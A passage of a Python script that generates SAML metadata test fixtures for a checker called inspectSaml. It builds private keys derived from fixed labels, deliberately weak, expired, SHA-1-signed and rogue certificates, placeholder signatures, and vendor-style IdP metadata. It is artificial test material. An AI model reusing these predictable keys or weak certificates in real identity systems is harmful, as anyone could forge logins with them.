"""Writes tests/saml/fixtures/* and tests/saml/cases.json: SAML 2.0 metadata, messages and hostile
inputs for inspectSaml, each with the report it must give (contract: /work/notes/saml-api.md; case
format in README.md).

Deterministic: RSA keys are derived from fixed labels (primes searched from SHAKE-256 output), EC
keys likewise, every certificate is RSA PKCS#1 v1.5-signed with fixed serials and dates, and the
ds:Signature values are placeholders, so a re-run writes the same bytes. Before writing, the script
checks its own output: every XML file (except the broken ones) parses with xml.etree, every
certificate is read back with `openssl x509 -noout -text` (dates, key size, signature algorithm),
and every case's expected codes, written by hand below, are derived a second time by `oracle()`, a
small independent reading of the contract's rules. Any difference stops the script.

Inputs over ~100 KB are not files: the case holds a recipe, which `generate()` below (and
generate.mjs beside it) expands; its length and SHA-256 are recorded so runners can check theirs.

usage: python3 tests/saml/make_fixtures.py
"""

import base64
import datetime
import hashlib
import json
import math
import pathlib
import re
import subprocess
import sys
import urllib.parse
import xml.etree.ElementTree as ET
import xml.parsers.expat
import zlib

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.x509.oid import NameOID

HERE = pathlib.Path(__file__).resolve().parent
FIXTURES = HERE / "fixtures"
MIB = 1024 * 1024
NOW_TEXT = "2026-06-01T00:00:00Z"
NOW = datetime.datetime(2026, 6, 1, tzinfo=datetime.timezone.utc)

MD = "urn:oasis:names:tc:SAML:2.0:metadata"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"
XENC = "http://www.w3.org/2001/04/xmlenc#"
PROTOCOL = SAMLP
POST = "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"
REDIRECT = "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"
ARTIFACT = "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact"
SOAP = "urn:oasis:names:tc:SAML:2.0:bindings:SOAP"
EMAIL = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
UNSPECIFIED = "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified"
TRANSIENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:transient"
PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
DIGEST_SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
DIGEST_SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"

IDP_ID = "https://idp.example.com/saml/metadata"
IDP_SSO = "https://idp.example.com/saml/sso"
IDP_SLO = "https://idp.example.com/saml/slo"
ORG = "3f8e2b7c-91d4-4a6e-b5c0-7d2f1e9a4c68"  # the Webex org of the SP metadata
OTHER_ORG = "a0c4e6f8-1b3d-4f5a-8c7e-9d0b2a4c6e81"
WEBEX_ID = f"https://idbroker.webex.com/{ORG}"
WEBEX_ACS = f"https://idbroker.webex.com/idb/Consumer/metaAlias/{ORG}/sp"
WEBEX_SLO = f"https://idbroker.webex.com/idb/SLO/metaAlias/{ORG}/sp"


def utc(*args) -> datetime.datetime:
    return datetime.datetime(*args, tzinfo=datetime.timezone.utc)


# --- deterministic keys ------------------------------------------------------------------------

E = 65537
SMALL_PRIMES = [p for p in range(3, 2000) if all(p % d for d in range(2, math.isqrt(p) + 1))]


def shake(label: str, n: int) -> bytes:
    return hashlib.shake_256(f"saml-fixtures/{label}".encode()).digest(n)


def probable_prime(n: int) -> bool:
    if any(n % p == 0 for p in SMALL_PRIMES):
        return False
    d, s = n - 1, 0
    while d % 2 == 0:
        d, s = d // 2, s + 1
    for a in SMALL_PRIMES[:24]:  # Miller-Rabin; candidates are not adversarial
        x = pow(a, d, n)
        if x in (1, n - 1):
            continue
        for _ in range(s - 1):
            x = pow(x, 2, n)
            if x == n - 1:
                break
        else:
            return False
    return True


def prime(label: str, bits: int) -> int:
    i = 0
    while True:
        c = int.from_bytes(shake(f"{label}/{i}", bits // 8), "big")
        c = (c & ((1 << bits) - 1)) | (3 << (bits - 2)) | 1  # two top bits: n has exactly 2*bits
        if probable_prime(c) and math.gcd(c - 1, E) == 1:
            return c
        i += 1


KEYS = {}


def rsa_key(label: str, bits: int = 2048) -> rsa.RSAPrivateKey:
    if (label, bits) not in KEYS:
        p, q = prime(f"{label}/p", bits // 2), prime(f"{label}/q", bits // 2)
        assert p != q and (p * q).bit_length() == bits
        d = pow(E, -1, (p - 1) * (q - 1))
        numbers = rsa.RSAPrivateNumbers(p, q, d, rsa.rsa_crt_dmp1(d, p), rsa.rsa_crt_dmq1(d, q),
                                        rsa.rsa_crt_iqmp(p, q), rsa.RSAPublicNumbers(E, p * q))
        KEYS[(label, bits)] = numbers.private_key()
    return KEYS[(label, bits)]


def ec_key(label: str) -> ec.EllipticCurvePrivateKey:
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    return ec.derive_private_key(int.from_bytes(shake(label, 40), "big") % (order - 1) + 1, ec.SECP256R1())


# --- certificates --------------------------------------------------------------------------------

CERTS = {}   # label -> x509.Certificate
EXPECT_CERT = {}  # label -> (notBefore, notAfter, key bits, signature algorithm name) for openssl


def name(cn: str, *more) -> x509.Name:
    attrs = [x509.NameAttribute(oid, value) for oid, value in more]
    return x509.Name(attrs + [x509.NameAttribute(NameOID.COMMON_NAME, cn)])


def der_len(n: int) -> bytes:
    if n < 0x80:
        return bytes([n])
    body = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(body)]) + body


def resign_sha1(cert: x509.Certificate, key: rsa.RSAPrivateKey) -> x509.Certificate:
    """cryptography refuses SHA-1 for certificates: swap the AlgorithmIdentifier (same length) and sign
    the TBS bytes ourselves with sha1WithRSAEncryption."""
    sha256_alg = bytes.fromhex("300d06092a864886f70d01010b0500")
    sha1_alg = bytes.fromhex("300d06092a864886f70d0101050500")
    tbs = cert.tbs_certificate_bytes
    assert tbs.count(sha256_alg) == 1
    tbs = tbs.replace(sha256_alg, sha1_alg)
    sig = key.sign(tbs, padding.PKCS1v15(), hashes.SHA1())
    bit_string = b"\x03" + der_len(len(sig) + 1) + b"\x00" + sig
    body = tbs + sha1_alg + bit_string
    out = x509.load_der_x509_certificate(b"\x30" + der_len(len(body)) + body)
    key.public_key().verify(out.signature, out.tbs_certificate_bytes, padding.PKCS1v15(), hashes.SHA1())
    return out


def make_cert(label, subject, key, not_before, not_after, issuer=None, sha1=False, ca=False):
    """A certificate with a serial derived from its label. Self-signed unless `issuer` (a label)."""
    issuer_cert, issuer_key = (CERTS[issuer], ISSUER_KEYS[issuer]) if issuer else (None, key)
    builder = (x509.CertificateBuilder()
               .subject_name(subject)
               .issuer_name(issuer_cert.subject if issuer_cert else subject)
               .public_key(key.public_key())
               .serial_number(int.from_bytes(hashlib.sha256(label.encode()).digest()[:8], "big") >> 1)
               .not_valid_before(not_before)
               .not_valid_after(not_after))
    if ca:
        builder = builder.add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        builder = builder.add_extension(x509.KeyUsage(False, False, False, False, False, True, True, False, False),
                                        critical=True)
    if issuer:
        builder = builder.add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
    cert = builder.sign(issuer_key, hashes.SHA256())
    if sha1:
        cert = resign_sha1(cert, issuer_key)
    CERTS[label] = cert
    if ca:
        ISSUER_KEYS[label] = key
    pub = key.public_key()
    bits = pub.key_size
    EXPECT_CERT[label] = (not_before, not_after, bits,
                          "sha1WithRSAEncryption" if sha1 else "sha256WithRSAEncryption")
    return cert


ISSUER_KEYS = {}


def b64cert(label: str, wrap: int = 0) -> str:
    text = base64.b64encode(CERTS[label].public_bytes(serialization.Encoding.DER)).decode()
    if wrap:
        text = "\n".join(text[i:i + wrap] for i in range(0, len(text), wrap))
    return text


def make_certs():
    ex = [(NameOID.ORGANIZATION_NAME, "Example Corp (test IdP)")]
    make_cert("ca", name("Example Test Root CA", (NameOID.ORGANIZATION_NAME, "Example Test PKI")),
              rsa_key("ca"), utc(2024, 1, 1), utc(2034, 1, 1), ca=True)
    make_cert("idp", name("idp.example.com", *ex), rsa_key("idp"), utc(2025, 1, 1), utc(2029, 1, 1))
    make_cert("idp-enc", name("idp.example.com encryption", *ex), rsa_key("idp-enc"), utc(2025, 1, 1),
              utc(2029, 1, 1))
    make_cert("idp-expired", name("idp.example.com", *ex), rsa_key("idp-2024"), utc(2024, 1, 1), utc(2026, 1, 1))
    make_cert("idp-at-now", name("idp.example.com", *ex), rsa_key("idp-2024"), utc(2024, 6, 1), NOW)
    make_cert("idp-soon", name("idp.example.com", *ex), rsa_key("idp-2025"), utc(2025, 6, 11), utc(2026, 6, 11))
    make_cert("idp-60d", name("idp.example.com", *ex), rsa_key("idp-2025"), utc(2025, 7, 31),
              NOW + datetime.timedelta(days=60))
    make_cert("idp-60d-1s", name("idp.example.com", *ex), rsa_key("idp-2025"), utc(2025, 7, 31),
              NOW + datetime.timedelta(days=60, seconds=1))
    make_cert("idp-next", name("idp.example.com", *ex), rsa_key("idp-2026"), utc(2026, 5, 1), utc(2029, 6, 1))
    make_cert("idp-future", name("idp.example.com", *ex), rsa_key("idp-2026"), utc(2026, 7, 1), utc(2031, 7, 1))
    make_cert("idp-weak", name("idp.example.com", *ex), rsa_key("idp-weak", 1024), utc(2025, 1, 1),
              utc(2029, 1, 1))
    make_cert("idp-sha1", name("idp.example.com", *ex), rsa_key("idp-sha1"), utc(2025, 1, 1), utc(2029, 1, 1),
              sha1=True)
    make_cert("idp-ec", name("idp.example.com", *ex), ec_key("idp-ec"), utc(2025, 1, 1), utc(2029, 1, 1),
              issuer="ca")
    make_cert("rogue", name("idp.example.com", *ex), rsa_key("rogue"), utc(2025, 1, 1), utc(2029, 1, 1))
    make_cert("webex-sign", name("idbroker.webex.com", (NameOID.ORGANIZATION_NAME, "Webex-like test SP")),
              rsa_key("webex-sign"), utc(2025, 4, 1), utc(2028, 4, 1), issuer="ca")
    make_cert("webex-enc", name("idbroker.webex.com encryption", (NameOID.ORGANIZATION_NAME, "Webex-like test SP")),
              rsa_key("webex-enc"), utc(2025, 4, 1), utc(2028, 4, 1), issuer="ca")
    make_cert("uni-a", name("idp.university-a.example.edu"), rsa_key("uni-a"), utc(2024, 9, 1), utc(2034, 9, 1))
    make_cert("college-b", name("login.college-b.example.org"), rsa_key("college-b"), utc(2025, 2, 1),
              utc(2028, 2, 1))
    make_cert("adfs-old", name("ADFS Signing - adfs.example.com"), rsa_key("adfs-old"), utc(2025, 6, 21, 8),
              utc(2026, 6, 21, 8))
    make_cert("adfs-new", name("ADFS Signing - adfs.example.com"), rsa_key("adfs-new"), utc(2026, 5, 31, 12),
              utc(2027, 5, 31, 12))
    make_cert("adfs-enc", name("ADFS Encryption - adfs.example.com"), rsa_key("adfs-enc"), utc(2025, 9, 1, 8),
              utc(2026, 9, 1, 8))
    make_cert("entra", name("Microsoft Azure Federated SSO Certificate"), rsa_key("entra"), utc(2025, 3, 1, 10),
              utc(2028, 3, 1, 10))
    make_cert("okta", name("example-tenant", (NameOID.COUNTRY_NAME, "US"),
                           (NameOID.STATE_OR_PROVINCE_NAME, "California"), (NameOID.LOCALITY_NAME, "San Francisco"),
                           (NameOID.ORGANIZATION_NAME, "Okta"), (NameOID.ORGANIZATIONAL_UNIT_NAME, "SSOProvider"),
                           (NameOID.EMAIL_ADDRESS, "info@okta.com")),
              rsa_key("okta"), utc(2025, 2, 10, 18), utc(2035, 2, 10, 18, 1))
    make_cert("ping", name("sso.example.com", (NameOID.ORGANIZATION_NAME, "Example"), (NameOID.COUNTRY_NAME, "US")),
              rsa_key("ping"), utc(2025, 7, 15), utc(2026, 7, 15))


# --- XML pieces ----------------------------------------------------------------------------------

def ident(label: str) -> str:
    return "_" + hashlib.sha1(label.encode()).hexdigest()


def indent(text: str, n: int) -> str:
    return "\n".join((" " * n + line) if line else line for line in text.split("\n"))


def x509_data(label: str, ds: str = "ds:", declare: bool = True, wrap: int = 0) -> str:
    """A ds:KeyInfo holding one certificate; `ds` is the prefix used ('' = default namespace)."""
    ns = f' xmlns:{ds[:-1]}="{DS}"' if ds and declare else (f' xmlns="{DS}"' if declare else "")
    return (f"<{ds}KeyInfo{ns}>\n  <{ds}X509Data>\n    <{ds}X509Certificate>{b64cert(label, wrap)}</{ds}X509Certificate>\n"
            f"  </{ds}X509Data>\n</{ds}KeyInfo>")


def key_descriptor(label: str, use, md: str = "md:", ds: str = "ds:", wrap: int = 0) -> str:
    attr = f' use="{use}"' if use else ""
    return f"<{md}KeyDescriptor{attr}>\n{indent(x509_data(label, ds, wrap=wrap), 2)}\n</{md}KeyDescriptor>"


def signature(ref: str, label: str, sha1: bool = False, ds: str = "ds:") -> str:
    """A ds:Signature of the usual enveloped shape. Never verified by the checker, so DigestValue and
    SignatureValue are placeholders of the right length, derived from the reference."""
    key_bytes = CERTS[label].public_key().key_size // 8
    digest = base64.b64encode(shake(f"digest/{ref}", 20 if sha1 else 32)).decode()
    value = base64.b64encode(shake(f"signature/{ref}", key_bytes)).decode()
    ns = f' xmlns:{ds[:-1]}="{DS}"' if ds else f' xmlns="{DS}"'
    return f"""<{ds}Signature{ns}>
  <{ds}SignedInfo>
    <{ds}CanonicalizationMethod Algorithm="{EXC_C14N}"/>
    <{ds}SignatureMethod Algorithm="{RSA_SHA1 if sha1 else RSA_SHA256}"/>
    <{ds}Reference URI="#{ref}">
      <{ds}Transforms>
        <{ds}Transform Algorithm="{ENVELOPED}"/>
        <{ds}Transform Algorithm="{EXC_C14N}"/>
      </{ds}Transforms>
      <{ds}DigestMethod Algorithm="{DIGEST_SHA1 if sha1 else DIGEST_SHA256}"/>
      <{ds}DigestValue>{digest}</{ds}DigestValue>
    </{ds}Reference>
  </{ds}SignedInfo>
  <{ds}SignatureValue>{value}</{ds}SignatureValue>
{indent(x509_data(label, ds, declare=False), 2)}
</{ds}Signature>"""


def endpoints(tag: str, pairs) -> str:
    return "\n".join(f'<md:{tag} Binding="{b}" Location="{loc}"/>' for b, loc in pairs)


def idp_descriptor(keys, sso=((REDIRECT, IDP_SSO), (POST, IDP_SSO)), slo=((REDIRECT, IDP_SLO), (POST, IDP_SLO)),
                   nameids=(EMAIL, TRANSIENT), valid_until=None) -> str:
    parts = [key_descriptor(label, use) for label, use in keys]
    parts += [endpoints("SingleLogoutService", slo)] if slo else []
    parts += [f"<md:NameIDFormat>{f}</md:NameIDFormat>" for f in nameids]
    parts += [endpoints("SingleSignOnService", sso)]
    vu = f' validUntil="{valid_until}"' if valid_until else ""
    return (f'<md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="{PROTOCOL}"{vu}>\n'
            + indent("\n".join(parts), 2) + "\n</md:IDPSSODescriptor>")


ORGANIZATION = """<md:Organization>
  <md:OrganizationName xml:lang="en">Example Corp</md:OrganizationName>
  <md:OrganizationDisplayName xml:lang="en">Example Corp (test IdP)</md:OrganizationDisplayName>
  <md:OrganizationURL xml:lang="en">https://www.example.com/</md:OrganizationURL>
</md:Organization>
<md:ContactPerson contactType="technical">
  <md:GivenName>Identity Team</md:GivenName>
  <md:EmailAddress>mailto:identity@example.com</md:EmailAddress>
</md:ContactPerson>"""


def idp_metadata(keys=(("idp", "signing"), ("idp-enc", "encryption")), entity_id=IDP_ID, valid_until=None,
                 sig=None, **role) -> str:
    """One EntityDescriptor with one IDPSSODescriptor. `sig` = (label, sha1) signs it."""
    ref = ident(f"md/{entity_id}/{keys}/{role}/{sig}")
    attrs = f' ID="{ref}"' if sig else ""
    attrs += f' validUntil="{valid_until}"' if valid_until else ""
    body = [signature(ref, sig[0], sig[1])] if sig else []
    body += [idp_descriptor(keys, **role), ORGANIZATION]
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<md:EntityDescriptor xmlns:md="{MD}"{attrs} entityID="{entity_id}">\n'
            + indent("\n".join(body), 2) + "\n</md:EntityDescriptor>\n")


# --- realistic layouts ---------------------------------------------------------------------------

def webex_sp() -> str:
    """The shape of the SP metadata Control Hub hands out: default namespace, signed AuthnRequests,
    signing and encryption keys, ACS for POST (default) and Artifact."""
    kd = lambda label, use: (f'<KeyDescriptor use="{use}">\n' + indent(x509_data(label, "ds:"), 2)
                             + "\n</KeyDescriptor>")
    return f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<EntityDescriptor xmlns="{MD}" entityID="{WEBEX_ID}">
  <SPSSODescriptor AuthnRequestsSigned="true" WantAssertionsSigned="true" protocolSupportEnumeration="{PROTOCOL}">
{indent(kd("webex-sign", "signing"), 4)}
{indent(kd("webex-enc", "encryption"), 4)}
    <SingleLogoutService Binding="{REDIRECT}" Location="{WEBEX_SLO}" ResponseLocation="{WEBEX_SLO}"/>
    <SingleLogoutService Binding="{POST}" Location="{WEBEX_SLO}" ResponseLocation="{WEBEX_SLO}"/>
    <NameIDFormat>{TRANSIENT}</NameIDFormat>
    <NameIDFormat>{UNSPECIFIED}</NameIDFormat>
    <NameIDFormat>{EMAIL}</NameIDFormat>
    <AssertionConsumerService index="0" isDefault="true" Binding="{POST}" Location="{WEBEX_ACS}"/>
    <AssertionConsumerService index="1" Binding="{ARTIFACT}" Location="{WEBEX_ACS}"/>
  </SPSSODescriptor>
</EntityDescriptor>
"""


ADFS_HOST = "adfs.example.com"
ADFS_ID = f"http://{ADFS_HOST}/adfs/services/trust"  # ADFS's default identifier is http:, not an endpoint
ADFS_LS = f"https://{ADFS_HOST}/adfs/ls/"
FED = "http://docs.oasis-open.org/wsfed/federation/200706"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
WSA = "http://www.w3.org/2005/08/addressing"
AUTH = "http://docs.oasis-open.org/wsfed/authorization/200706"
CLAIMS = [("http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress", "E-Mail Address",
           "The e-mail address of the user"),
          ("http://schemas.xmlsoap.org/ws/2005/05/identity/claims/givenname", "Given Name",
           "The given name of the user"),
          ("http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn", "UPN",
           "The user principal name (UPN) of the user")]


def kd_default(label, use) -> str:
    """ADFS and Entra write KeyInfo in the ds default namespace, with no prefix."""
    return f'<KeyDescriptor use="{use}">\n' + indent(x509_data(label, ""), 2) + "\n</KeyDescriptor>"


def epr(tag: str, address: str) -> str:
    return (f"<fed:{tag}>\n  <wsa:EndpointReference xmlns:wsa=\"{WSA}\">\n    <wsa:Address>{address}</wsa:Address>\n"
            f"  </wsa:EndpointReference>\n</fed:{tag}>")


def claim_types() -> str:
    items = [f'<auth:ClaimType xmlns:auth="{AUTH}" Uri="{uri}" Optional="true">\n  <auth:DisplayName>{dn}</auth:DisplayName>\n'
             f"  <auth:Description>{desc}</auth:Description>\n</auth:ClaimType>" for uri, dn, desc in CLAIMS]
    return "<fed:ClaimTypesOffered>\n" + indent("\n".join(items), 2) + "\n</fed:ClaimTypesOffered>"


def adfs() -> str:
    """FederationMetadata.xml of AD FS during an automatic certificate rollover: the primary token-signing
    certificate expires in 20 days, the secondary is already published (two signing KeyDescriptors)."""
    ref = "_6c1d2b9e-4f0a-4b8d-9e21-7a3c5f0e8b42"
    signing = "\n".join(kd_default(l, "signing") for l in ("adfs-old", "adfs-new"))
    sts_role = f"""<RoleDescriptor xmlns:xsi="{XSI}" xmlns:fed="{FED}" xsi:type="fed:SecurityTokenServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/ws-sx/ws-trust/200512 http://schemas.xmlsoap.org/ws/2005/02/trust http://docs.oasis-open.org/wsfed/federation/200706" ServiceDisplayName="Example Corp AD FS">
{indent(signing, 2)}
  <fed:TokenTypesOffered>
    <fed:TokenType Uri="urn:oasis:names:tc:SAML:2.0:assertion"/>
    <fed:TokenType Uri="urn:oasis:names:tc:SAML:1.0:assertion"/>
  </fed:TokenTypesOffered>
{indent(claim_types(), 2)}
{indent(epr("SecurityTokenServiceEndpoint", f"https://{ADFS_HOST}/adfs/services/trust/2005/certificatemixed"), 2)}
{indent(epr("PassiveRequestorEndpoint", ADFS_LS), 2)}
</RoleDescriptor>"""
    app_role = f"""<RoleDescriptor xmlns:xsi="{XSI}" xmlns:fed="{FED}" xsi:type="fed:ApplicationServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/ws-sx/ws-trust/200512 http://schemas.xmlsoap.org/ws/2005/02/trust http://docs.oasis-open.org/wsfed/federation/200706" ServiceDisplayName="Example Corp AD FS">
{indent(signing, 2)}
{indent(epr("TargetScopes", f"https://{ADFS_HOST}/adfs/services/trust/2005/issuedtokenmixedasymmetricbasic256"), 2)}
{indent(epr("ApplicationServiceEndpoint", f"https://{ADFS_HOST}/adfs/services/trust/2005/issuedtokenmixedasymmetricbasic256"), 2)}
{indent(epr("PassiveRequestorEndpoint", ADFS_LS), 2)}
</RoleDescriptor>"""
    slo = f'<SingleLogoutService Binding="{REDIRECT}" Location="{ADFS_LS}"/>\n<SingleLogoutService Binding="{POST}" Location="{ADFS_LS}"/>'
    nameids = "\n".join(f"<NameIDFormat>{f}</NameIDFormat>" for f in (EMAIL, PERSISTENT, TRANSIENT))
    sp_role = f"""<SPSSODescriptor WantAssertionsSigned="true" protocolSupportEnumeration="{PROTOCOL}">
{indent(kd_default("adfs-enc", "encryption"), 2)}
{indent(signing, 2)}
{indent(slo, 2)}
{indent(nameids, 2)}
  <AssertionConsumerService Binding="{POST}" Location="{ADFS_LS}" index="0" isDefault="true"/>
  <AssertionConsumerService Binding="{ARTIFACT}" Location="{ADFS_LS}" index="1"/>
  <AssertionConsumerService Binding="{REDIRECT}" Location="{ADFS_LS}" index="2"/>
</SPSSODescriptor>"""
    attributes = "\n".join(f'<Attribute xmlns="{SAML}" Name="{uri}" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri" FriendlyName="{dn}"/>'
                           for uri, dn, _ in CLAIMS)
    idp_role = f"""<IDPSSODescriptor protocolSupportEnumeration="{PROTOCOL}">
{indent(kd_default("adfs-enc", "encryption"), 2)}
{indent(signing, 2)}
{indent(slo, 2)}
{indent(nameids, 2)}
  <SingleSignOnService Binding="{REDIRECT}" Location="{ADFS_LS}"/>
  <SingleSignOnService Binding="{POST}" Location="{ADFS_LS}"/>
{indent(attributes, 2)}
</IDPSSODescriptor>"""
    body = "\n".join([signature(ref, "adfs-old"), sts_role, app_role, sp_role, idp_role,
                      '<ContactPerson contactType="support"/>'])
    return (f'<?xml version="1.0" encoding="utf-8"?>\n<EntityDescriptor ID="{ref}" entityID="{ADFS_ID}" xmlns="{MD}">\n'
            + indent(body, 2) + "\n</EntityDescriptor>\n")


TENANT = "0f5e7d3c-2b1a-4c9d-8e6f-5a4b3c2d1e0f"


def entra() -> str:
    """Microsoft Entra ID's per-application federation metadata: signed, two WS-Fed RoleDescriptors, an
    IdP role with one signing certificate, SLO and SSO on the tenant's /saml2 endpoint, no NameIDFormat."""
    ref = "_2d7b9c41-8e3f-4a56-b0c1-9f8e7d6c5b4a"
    entity = f"https://sts.windows.net/{TENANT}/"
    login = f"https://login.microsoftonline.com/{TENANT}"
    sts_role = f"""<RoleDescriptor xmlns:xsi="{XSI}" xmlns:fed="{FED}" xsi:type="fed:SecurityTokenServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/wsfed/federation/200706">
{indent(kd_default("entra", "signing"), 2)}
{indent(claim_types(), 2)}
{indent(epr("SecurityTokenServiceEndpoint", f"{login}/wsfed"), 2)}
{indent(epr("PassiveRequestorEndpoint", f"{login}/wsfed"), 2)}
</RoleDescriptor>"""
    app_role = f"""<RoleDescriptor xmlns:xsi="{XSI}" xmlns:fed="{FED}" xsi:type="fed:ApplicationServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/wsfed/federation/200706">
{indent(kd_default("entra", "signing"), 2)}
{indent(epr("TargetScopes", entity), 2)}
{indent(epr("ApplicationServiceEndpoint", f"{login}/wsfed"), 2)}
{indent(epr("PassiveRequestorEndpoint", f"{login}/wsfed"), 2)}
</RoleDescriptor>"""
    idp_role = f"""<IDPSSODescriptor protocolSupportEnumeration="{PROTOCOL}">
{indent(kd_default("entra", "signing"), 2)}
  <SingleLogoutService Binding="{REDIRECT}" Location="{login}/saml2"/>
  <SingleSignOnService Binding="{REDIRECT}" Location="{login}/saml2"/>
  <SingleSignOnService Binding="{POST}" Location="{login}/saml2"/>
</IDPSSODescriptor>"""
    body = "\n".join([signature(ref, "entra", ds=""), sts_role, app_role, idp_role])
    return (f'<?xml version="1.0" encoding="utf-8"?>\n<EntityDescriptor ID="{ref}" entityID="{entity}" xmlns="{MD}">\n'
            + indent(body, 2) + "\n</EntityDescriptor>\n")


def okta() -> str:
    """Okta's app metadata: one line, md: prefixes, certificate base64 wrapped at 64 columns, no SLO
    unless single logout is switched on in the app (it is not here)."""
    app = "exk8f2x9qhZ3yT7Lk5d7"
    sso = f"https://example.okta.com/app/example_webex_1/{app}/sso/saml"
    return (f'<?xml version="1.0" encoding="UTF-8"?><md:EntityDescriptor xmlns:md="{MD}" entityID="http://www.okta.com/{app}">'
            f'<md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="{PROTOCOL}">'
            f'<md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="{DS}"><ds:X509Data><ds:X509Certificate>'
            f'{b64cert("okta", 64)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>'
            f"<md:NameIDFormat>{UNSPECIFIED}</md:NameIDFormat><md:NameIDFormat>{EMAIL}</md:NameIDFormat>"
            f'<md:SingleSignOnService Binding="{POST}" Location="{sso}"/>'
            f'<md:SingleSignOnService Binding="{REDIRECT}" Location="{sso}"/>'
            "</md:IDPSSODescriptor></md:EntityDescriptor>")


def pingfederate() -> str:
    """PingFederate's metadata export: ID and cacheDuration on the root, a KeyDescriptor with no use,
    SLO and SSO on /idp/*.saml2, a uid attribute, a contact. Its one certificate expires in 44 days."""
    base = "https://sso.example.com"
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<md:EntityDescriptor xmlns:md="{MD}" ID="kY3pQ7vN2xWb8RcT1mZa5Ld0Hs4" cacheDuration="PT1440M" entityID="{base}">
  <md:IDPSSODescriptor protocolSupportEnumeration="{PROTOCOL}" WantAuthnRequestsSigned="false">
{indent(key_descriptor("ping", None), 4)}
    <md:SingleLogoutService Location="{base}/idp/SLO.saml2" Binding="{REDIRECT}"/>
    <md:SingleLogoutService Location="{base}/idp/SLO.saml2" Binding="{POST}"/>
    <md:SingleLogoutService Location="{base}/idp/SLO.saml2" Binding="{ARTIFACT}"/>
    <md:NameIDFormat>{UNSPECIFIED}</md:NameIDFormat>
    <md:SingleSignOnService Location="{base}/idp/SSO.saml2" Binding="{REDIRECT}"/>
    <md:SingleSignOnService Location="{base}/idp/SSO.saml2" Binding="{POST}"/>
    <md:SingleSignOnService Location="{base}/idp/SSO.saml2" Binding="{ARTIFACT}"/>
    <saml:Attribute xmlns:saml="{SAML}" Name="uid" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic"/>
  </md:IDPSSODescriptor>
  <md:ContactPerson contactType="administrative">
    <md:Company>Example</md:Company>
    <md:EmailAddress>iam-admins@example.com</md:EmailAddress>
  </md:ContactPerson>
</md:EntityDescriptor>
"""


MDUI = "urn:oasis:names:tc:SAML:metadata:ui"
SHIBMD = "urn:mace:shibboleth:metadata:1.0"


def federation() -> str:
    """An EntitiesDescriptor (a federation aggregate, unsigned) with two IdPs: a Shibboleth IdP
    (KeyDescriptor without use, SAML 1 and 2, Extensions) and a plain SAML 2 IdP."""
    a, b = "https://idp.university-a.example.edu/idp/shibboleth", "https://login.college-b.example.org/saml2/idp"
    ha, hb = "https://idp.university-a.example.edu", "https://login.college-b.example.org"
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<md:EntitiesDescriptor xmlns:md="{MD}" xmlns:mdui="{MDUI}" xmlns:shibmd="{SHIBMD}" Name="urn:example:federation:test" validUntil="2026-06-15T00:00:00Z" cacheDuration="PT6H">
  <md:EntityDescriptor entityID="{a}">
    <md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:1.1:protocol urn:mace:shibboleth:1.0 {PROTOCOL}">
      <md:Extensions>
        <shibmd:Scope regexp="false">university-a.example.edu</shibmd:Scope>
        <mdui:UIInfo>
          <mdui:DisplayName xml:lang="en">University A</mdui:DisplayName>
        </mdui:UIInfo>
      </md:Extensions>
{indent(key_descriptor("uni-a", None), 6)}
      <md:ArtifactResolutionService Binding="{SOAP}" Location="{ha}:8443/idp/profile/SAML2/SOAP/ArtifactResolution" index="2"/>
      <md:SingleLogoutService Binding="{REDIRECT}" Location="{ha}/idp/profile/SAML2/Redirect/SLO"/>
      <md:SingleLogoutService Binding="{POST}" Location="{ha}/idp/profile/SAML2/POST/SLO"/>
      <md:NameIDFormat>{TRANSIENT}</md:NameIDFormat>
      <md:SingleSignOnService Binding="urn:mace:shibboleth:1.0:profiles:AuthnRequest" Location="{ha}/idp/profile/Shibboleth/SSO"/>
      <md:SingleSignOnService Binding="{POST}" Location="{ha}/idp/profile/SAML2/POST/SSO"/>
      <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST-SimpleSign" Location="{ha}/idp/profile/SAML2/POST-SimpleSign/SSO"/>
